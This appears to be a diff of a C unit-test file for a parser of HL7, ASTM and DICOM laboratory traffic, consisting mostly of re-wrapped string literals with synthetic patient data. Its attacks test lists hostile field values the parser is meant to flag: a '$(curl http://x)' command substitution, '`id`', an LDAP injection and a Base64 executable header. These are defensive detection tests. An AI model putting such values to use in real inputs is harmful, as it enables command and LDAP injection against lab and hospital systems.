@@ -9,19 +9,22 @@
 #include "app_collect.h"
 #include "wire/astm_link.h"
 
-#define ORU                                                                                                                                               \
-    "MSH|^~\\&|XN-20^00-01|LAB|LIS|HOSP|20260302080000||ORU^R01^ORU_R01|A-1|P|2.5.1||||||UNICODE UTF-8\r"                                                  \
-    "PID|1||P123^^^HOSP^MR~Q9||DOE^JANE||19700101|F\r"                                                                                                  \
-    "OBR|1|B77^X|F88|PANEL^Panel^L|||20260302075900\r"                                                                                                   \
-    "OBX|1|NM|718-7^Hemoglobin^LN^HGB^Hb^L||13.2|g/dL^gram^UCUM|12-16|N~A|||F|||20260302080000+0100||||SN100045\r"                                       \
+#define ORU                                                                                                                                          \
+    "MSH|^~\\&|XN-20^00-01|LAB|LIS|HOSP|20260302080000||ORU^R01^ORU_R01|A-1|P|2.5.1||||||UNICODE UTF-8\r"                                            \
+    "PID|1||P123^^^HOSP^MR~Q9||DOE^JANE||19700101|F\r"                                                                                               \
+    "OBR|1|B77^X|F88|PANEL^Panel^L|||20260302075900\r"                                                                                               \
+    "OBX|1|NM|718-7^Hemoglobin^LN^HGB^Hb^L||13.2|g/dL^gram^UCUM|12-16|N~A|||F|||20260302080000+0100||||SN100045\r"                                   \
     "OBX|2|ST|^^^COM^Comment^L||a\\T\\b||||||P\r"
 #define BLOCK(m) "\x0b" m "\x1c\r"
 
 static const char oru_lines[] =
-    "lab.message; id=f7.0.1; protocol=hl7; type=ORU^R01; control_id=A-1; sender=XN-20^00-01; receiver=LIS; version=2.5.1; charset=UNICODE UTF-8; results=2; "
+    "lab.message; id=f7.0.1; protocol=hl7; type=ORU^R01; control_id=A-1; sender=XN-20^00-01; receiver=LIS; version=2.5.1; charset=UNICODE UTF-8; "
+    "results=2; "
     "patients=1; bytes=338; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101\n"
-    "lab.result; message=f7.0.1; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101; test.code=718-7; test.system=LN; test.text=Hemoglobin; "
-    "patient=P123; specimen=B77; order=B77; value=13.2; value_type=NM; units=g/dL; flags=N; flags=A; status=F; observed_at=2026-03-02T08:00:00+01:00\n"
+    "lab.result; message=f7.0.1; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101; test.code=718-7; test.system=LN; "
+    "test.text=Hemoglobin; "
+    "patient=P123; specimen=B77; order=B77; value=13.2; value_type=NM; units=g/dL; flags=N; flags=A; status=F; "
+    "observed_at=2026-03-02T08:00:00+01:00\n"
     "lab.result; message=f7.0.1; private=P123^^^HOSP^MR~Q9; private=DOE^JANE; private=19700101; test.code=COM; test.system=L; test.text=Comment; "
     "patient=P123; specimen=B77; order=B77; value=a&b; value_type=ST; status=P; observed_at=2026-03-02T07:59:00\n";
 
@@ -66,8 +69,9 @@ static void hl7_acks(void **state)
     collect_open(&k, 0, true);
     collect_data(&k, 0, SPAN_LIT(BLOCK(ORU)));
     collect_data(&k, 1, SPAN_LIT(BLOCK("MSH|^~\\&|LIS|HOSP|XN-20|LAB|2026||ACK^R01^ACK|L-1|P|2.5.1\rMSA|AE|A-1\r")));
-    has(&k, "lab.message; id=f7.1.1; protocol=hl7; type=ACK; control_id=L-1; sender=LIS; receiver=XN-20; version=2.5.1; results=0; patients=0; bytes=69; "
-            "ack.code=AE; ack.for=A-1\n");
+    has(&k,
+        "lab.message; id=f7.1.1; protocol=hl7; type=ACK; control_id=L-1; sender=LIS; receiver=XN-20; version=2.5.1; results=0; patients=0; bytes=69; "
+        "ack.code=AE; ack.for=A-1\n");
     has(&k, "asset.evidence; ip=10.0.0.1; model=XN-20^00-01; serial=SN100045; role=analyzer; source=hl7.msh");
     has(&k, "asset.evidence; ip=10.0.0.2; software=LIS; role=lis; source=hl7.msh\n");
     size_t before = k.lines.n;
@@ -102,16 +106,18 @@ static void hl7_specimens(void **state)
     struct collect k;
     collect_open(&k, 0, false);
     /* OUL: SPM, SAC before the order; two specimens */
-    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||OUL^R22^OUL_R22|1|P|2.5.1\rPID|||P1\r"
-                                       "SPM|1|S1&NS^F1\rSAC|||C1\rOBR|1|O1||T\rORC|RE|X1\rOBX|1|NM|T1||1||||||F\r"
-                                       "SPM|2|\rSAC|||C2\rOBR|1|O2||T\rOBX|1|NM|T2||2||||||F\r")));
+    collect_data(&k, 0,
+                 SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||OUL^R22^OUL_R22|1|P|2.5.1\rPID|||P1\r"
+                                "SPM|1|S1&NS^F1\rSAC|||C1\rOBR|1|O1||T\rORC|RE|X1\rOBX|1|NM|T1||1||||||F\r"
+                                "SPM|2|\rSAC|||C2\rOBR|1|O2||T\rOBX|1|NM|T2||2||||||F\r")));
     has(&k, "test.code=T1; patient=P1; specimen=S1; order=O1; value=1");
     has(&k, "test.code=T2; patient=P1; specimen=C2; order=O2; value=2");
     /* ORU: SPM behind the observations it belongs to */
-    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||ORU^R01|2|P|2.5.1\rPID|||P2\r"
-                                       "ORC|RE|O3\rOBR|1|||T\rOBX|1|NM|T3||3||||||F\rSPM|1|^S3\r"
-                                       "OBR|2|O4||T\rOBX|1|NM|T4||4||||||F\r"
-                                       "PID|||P3\rOBR|1||F5|T\rOBX|1|NM|T5||5|10^3/uL|||||F\r")));
+    collect_data(&k, 0,
+                 SPAN_LIT(BLOCK("MSH|^~\\&|A||B||2026||ORU^R01|2|P|2.5.1\rPID|||P2\r"
+                                "ORC|RE|O3\rOBR|1|||T\rOBX|1|NM|T3||3||||||F\rSPM|1|^S3\r"
+                                "OBR|2|O4||T\rOBX|1|NM|T4||4||||||F\r"
+                                "PID|||P3\rOBR|1||F5|T\rOBX|1|NM|T5||5|10^3/uL|||||F\r")));
     has(&k, "test.code=T3; patient=P2; specimen=S3; order=O3; value=3");
     has(&k, "test.code=T4; patient=P2; specimen=O4; order=O4; value=4");
     has(&k, "test.code=T5; patient=P3; specimen=F5; order=F5; value=5; value_type=NM; units=10^3/uL; status=F");
@@ -129,7 +135,10 @@ static void hl7_odd_but_fine(void **state)
     has(&k, "results=1; patients=1");
     has(&k, "type=ORU^R01; control_id=2");
     has(&k, "test.code=T; test.system=L; test.text=x#y; patient=P2; value=2:3");
-    collect_data(&k, 0, SPAN_LIT(BLOCK("BHS|^~\\&|A\rMSH|^~\\&|A||B||2026||ORU^R01|3|P|2.3\rOBX|1|NM|T1||1\rMSH|^~\\&|A||B||2026||ORU^R01|4|P|2.3\rOBX|1|NM|T1||1\rBTS|2\r")));
+    collect_data(
+        &k, 0,
+        SPAN_LIT(BLOCK(
+            "BHS|^~\\&|A\rMSH|^~\\&|A||B||2026||ORU^R01|3|P|2.3\rOBX|1|NM|T1||1\rMSH|^~\\&|A||B||2026||ORU^R01|4|P|2.3\rOBX|1|NM|T1||1\rBTS|2\r")));
     has(&k, "control_id=3; sender=A; receiver=B; version=2.3; results=2"); /* a batch in one block is one message */
     assert_int_equal(k.stats.hl7_messages, 3);
     assert_int_equal(k.stats.malformed, 0);
@@ -199,7 +208,8 @@ static void hl7_limits(void **state)
             buf_u8(&stream, 'A');
         buf_add_str(&stream, "\r\x1c\r" BLOCK(ORU));
         feed_cut(&k, 0, buf_span(&stream), step);
-        has(&k, "type=ORU^R01; control_id=1; sender=A; receiver=B; version=2.3; results=0; patients=0; bytes=50051; malformed=message of 50051 bytes is over the limit of 10000");
+        has(&k, "type=ORU^R01; control_id=1; sender=A; receiver=B; version=2.3; results=0; patients=0; bytes=50051; malformed=message of 50051 bytes "
+                "is over the limit of 10000");
         has(&k, "id=f7.0.2; protocol=hl7; type=ORU^R01; control_id=A-1");
         assert_int_equal(k.stats.hl7_messages, 2);
         assert_int_equal(k.stats.results, 2);
@@ -305,15 +315,18 @@ static void frame(struct buf *out, unsigned number, const char *text, uint8_t en
 #define AR2 "R|2|^^^K|x&F&y|||N||F\r"
 #define AL "L|1|N\r"
 
-static const char astm_lines[] =
-    "lab.message; id=f7.0.1; protocol=astm; type=ASTM.RESULT; control_id=C-1; sender=XN-10^00-22^12345; receiver=LIS; version=LIS2-A2; results=2; patients=1; "
-    "bytes=248; private=PA1; private=PA2; private=DOE^JANE; private=19700101\n"
-    "lab.result; message=f7.0.1; private=PA1; private=PA2; private=DOE^JANE; private=19700101; test.code=GLU; test.text=Glucose; patient=PA1; specimen=S123; "
-    "value=5.4; units=mmol/L; flags=H; flags=A; status=F; observed_at=2026-03-02T08:00:00\n"
-    "lab.result; message=f7.0.1; private=PA1; private=PA2; private=DOE^JANE; private=19700101; test.code=K; patient=PA1; specimen=S123; value=x|y; flags=N; "
-    "status=F\n";
+static const char astm_lines[] = "lab.message; id=f7.0.1; protocol=astm; type=ASTM.RESULT; control_id=C-1; sender=XN-10^00-22^12345; receiver=LIS; "
+                                 "version=LIS2-A2; results=2; patients=1; "
+                                 "bytes=248; private=PA1; private=PA2; private=DOE^JANE; private=19700101\n"
+                                 "lab.result; message=f7.0.1; private=PA1; private=PA2; private=DOE^JANE; private=19700101; test.code=GLU; "
+                                 "test.text=Glucose; patient=PA1; specimen=S123; "
+                                 "value=5.4; units=mmol/L; flags=H; flags=A; status=F; observed_at=2026-03-02T08:00:00\n"
+                                 "lab.result; message=f7.0.1; private=PA1; private=PA2; private=DOE^JANE; private=19700101; test.code=K; "
+                                 "patient=PA1; specimen=S123; value=x|y; flags=N; "
+                                 "status=F\n";
 
-/* style 0: a record a frame; 1: all in one frame; 2: records over frames with ETB; 3: without ENQ; 4: a damaged frame, sent again; 5: a good one sent again */
+/* style 0: a record a frame; 1: all in one frame; 2: records over frames with ETB; 3: without ENQ; 4: a damaged frame, sent again; 5: a good one sent
+ * again */
 static void session(struct buf *out, int style)
 {
     if (style != 3)
@@ -432,11 +445,13 @@ static void astm_holes(void **state)
     buf_u8(&s, 0x05);
     frame(&s, 1, AH, 0x03, 0);
     frame(&s, 2, AP, 0x03, 0);
-    buf_add_str(&s, "\x02" "3O|1|S");
+    buf_add_str(&s, "\x02"
+                    "3O|1|S");
     collect_data(&k, 0, buf_span(&s));
     app_gap(k.c, &k.flow, &k.ref, 0, 100, 1000);
     buf_clear(&s);
-    buf_add_str(&s, "23|\r\x03" "17\r\n");
+    buf_add_str(&s, "23|\r\x03"
+                    "17\r\n");
     frame(&s, 6, AR2, 0x03, 0);
     frame(&s, 7, AL, 0x03, 0);
     buf_add_str(&s, "\x04");
@@ -471,7 +486,8 @@ static void astm_limits(void **state)
         buf_u8(&s, 0x04);
         session(&s, 0);
         feed_cut(&k, 0, buf_span(&s), 700 + 30000 * (size_t)one_frame);
-        has(&k, "control_id=C-1; sender=XN-10^00-22^12345; receiver=LIS; version=LIS2-A2; results=0; patients=0; bytes=22069; malformed=message of 22069 bytes is over the limit of 9000\n");
+        has(&k, "control_id=C-1; sender=XN-10^00-22^12345; receiver=LIS; version=LIS2-A2; results=0; patients=0; bytes=22069; malformed=message of "
+                "22069 bytes is over the limit of 9000\n");
         has(&k, "id=f7.0.2; protocol=astm; type=ASTM.RESULT");
         assert_int_equal(k.stats.astm_messages, 2);
         assert_int_equal(k.stats.results, 2);
@@ -542,20 +558,28 @@ static void never_a_message(struct span bytes, const char *label)
 static void other_protocols(void **state)
 {
     (void)state;
-    never_a_message(SPAN_LIT("GET / HTTP/1.1\r\nHost: x\r\n\r\n\x0bMSH and \x02" "1 more"), "http");
+    never_a_message(SPAN_LIT("GET / HTTP/1.1\r\nHost: x\r\n\r\n\x0bMSH and \x02"
+                             "1 more"),
+                    "http");
     never_a_message(SPAN_LIT("\x16\x03\x01\x00\x20\x01\x00\x00\x1c\x03\x03 hello"), "tls");
     never_a_message(SPAN_LIT("SSH-2.0-OpenSSH_9.2\r\n"), "ssh");
     never_a_message(SPAN_LIT("\x00\x00\x00\x54\xfeSMB\x40\x00"), "smb");
     never_a_message(SPAN_LIT("<?xml version=\"1.0\"?>\n<HEL.R01>\n<HDR>"), "poct1a");
     never_a_message(SPAN_LIT("220 mail.example ESMTP\r\n"), "smtp");
-    never_a_message(SPAN_LIT("\x0bMSH\x0bMSHA\x0b\x1c\r\x05\x02\x03\x04\x05\x02" "1hello\x03" "00\x04"), "");
+    never_a_message(SPAN_LIT("\x0bMSH\x0bMSHA\x0b\x1c\r\x05\x02\x03\x04\x05\x02"
+                             "1hello\x03"
+                             "00\x04"),
+                    "");
     never_a_message(SPAN_LIT("{\"id\":1}\x05\x06\x15\x02"), "");
 }
 
 static void dicom_associations(void **state)
 {
     (void)state;
-#define RQ "\x01\x00\x00\x00\x00\x60\x00\x01\x00\x00" "STORE_SCP       STORE_SCU       " "0123456789"
+#define RQ                                                                                                                                           \
+    "\x01\x00\x00\x00\x00\x60\x00\x01\x00\x00"                                                                                                       \
+    "STORE_SCP       STORE_SCU       "                                                                                                               \
+    "0123456789"
     struct collect k;
     collect_open(&k, 0, false);
     collect_data(&k, 0, SPAN_LIT(RQ));
@@ -662,8 +686,11 @@ static void attacks(void **state)
     hostile_is("$(curl http://x)", "shell command in OBX-5");
     hostile_is("`id`", "shell command in OBX-5");
     hostile_is("*)(uid=*", "LDAP injection in OBX-5");
-    hostile_is("a\x01" "b", "control character in OBX-5");
-    hostile_is("^application^octet-stream^Base64^TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA", "an executable program in OBX-5 (segment 2)");
+    hostile_is("a\x01"
+               "b",
+               "control character in OBX-5");
+    hostile_is("^application^octet-stream^Base64^TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
+               "an executable program in OBX-5 (segment 2)");
 }
 
 static void harmless(void **state)
@@ -710,8 +737,9 @@ static void types(void **state)
     struct collect k;
     struct buf out = BUF_INIT(1024);
     collect_open(&k, 0, false);
-    collect_data(&k, 0, SPAN_LIT(BLOCK("MSH|^~\\&|||||||ORU^R01|1\r") BLOCK("MSH|^~\\&|||||||ORU^R01^X|1\r") BLOCK("MSH|^~\\&|||||||ACK|1\r")
-                                 BLOCK("MSH|^~\\&|||||||SMITH^JOHN|1\r") BLOCK("MSH|^~\\&|||||||ADT^A01|1\r")));
+    collect_data(&k, 0,
+                 SPAN_LIT(BLOCK("MSH|^~\\&|||||||ORU^R01|1\r") BLOCK("MSH|^~\\&|||||||ORU^R01^X|1\r") BLOCK("MSH|^~\\&|||||||ACK|1\r")
+                              BLOCK("MSH|^~\\&|||||||SMITH^JOHN|1\r") BLOCK("MSH|^~\\&|||||||ADT^A01|1\r")));
     app_hl7_types(k.c, count_types, &out);
     assert_string_equal(buf_text(&out), "ACK=1 ADT^A01=1 ORU^R01=2 other=1 "); /* a name in MSH-9 is not printed */
     buf_release(&out);
@@ -750,14 +778,33 @@ static void many_unfinished(void **state)
 int main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(hl7_cut_anywhere),  cmocka_unit_test(hl7_acks),        cmocka_unit_test(hl7_middleware),          cmocka_unit_test(hl7_specimens),
-        cmocka_unit_test(hl7_odd_but_fine),  cmocka_unit_test(hl7_framing_violations), cmocka_unit_test(hl7_holes),        cmocka_unit_test(hl7_limits),
+        cmocka_unit_test(hl7_cut_anywhere),
+        cmocka_unit_test(hl7_acks),
+        cmocka_unit_test(hl7_middleware),
+        cmocka_unit_test(hl7_specimens),
+        cmocka_unit_test(hl7_odd_but_fine),
+        cmocka_unit_test(hl7_framing_violations),
+        cmocka_unit_test(hl7_holes),
+        cmocka_unit_test(hl7_limits),
         cmocka_unit_test(hl7_large_value),
-        cmocka_unit_test(hl7_value_over_the_limit),   cmocka_unit_test(many_private_fields), cmocka_unit_test(astm_cut_anywhere),   cmocka_unit_test(astm_types_and_evidence),
-        cmocka_unit_test(astm_violations),   cmocka_unit_test(astm_holes),      cmocka_unit_test(astm_limits),             cmocka_unit_test(other_protocols),
-        cmocka_unit_test(late_and_in_the_middle), cmocka_unit_test(contradictions), cmocka_unit_test(attacks),             cmocka_unit_test(harmless),
-        cmocka_unit_test(absurd_sizes),      cmocka_unit_test(types),           cmocka_unit_test(many_unfinished),         cmocka_unit_test(dicom_associations),
-        cmocka_unit_test(astm_many_in_a_frame), cmocka_unit_test(too_many_results),
+        cmocka_unit_test(hl7_value_over_the_limit),
+        cmocka_unit_test(many_private_fields),
+        cmocka_unit_test(astm_cut_anywhere),
+        cmocka_unit_test(astm_types_and_evidence),
+        cmocka_unit_test(astm_violations),
+        cmocka_unit_test(astm_holes),
+        cmocka_unit_test(astm_limits),
+        cmocka_unit_test(other_protocols),
+        cmocka_unit_test(late_and_in_the_middle),
+        cmocka_unit_test(contradictions),
+        cmocka_unit_test(attacks),
+        cmocka_unit_test(harmless),
+        cmocka_unit_test(absurd_sizes),
+        cmocka_unit_test(types),
+        cmocka_unit_test(many_unfinished),
+        cmocka_unit_test(dicom_associations),
+        cmocka_unit_test(astm_many_in_a_frame),
+        cmocka_unit_test(too_many_results),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
